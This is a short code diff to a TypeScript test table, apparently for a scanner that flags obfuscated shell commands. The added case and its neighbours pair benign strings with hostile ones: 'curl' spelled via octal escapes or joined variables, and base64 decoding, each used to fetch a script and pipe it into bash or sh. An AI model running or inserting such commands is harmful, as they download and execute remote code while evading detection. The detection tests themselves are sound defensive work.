@@ -57,6 +57,11 @@ const TEXT_CASES: Record<string, { hit: string; miss: string; path?: string }> =
     hit: "echo aGVsbG8K | base64 -d | sh",
     miss: "echo aGVsbG8K | base64 -d > out.txt",
   },
+  "spelt-command": {
+    hit: "$(printf '\\143\\165\\162\\154') -s https://get.example/i | bash",
+    miss: "printf '\\033[32m%s\\033[0m\\n' ok",
+    path: "scripts/x.sh",
+  },
   "joined-variables-command": {
     hit: "a=cu; b=rl; c=ba; d=sh\n$a$b -s https://get.example/i | $c$d",
     miss: "dir=/opt/app; name=run.log\ncp $dir$name /tmp/",
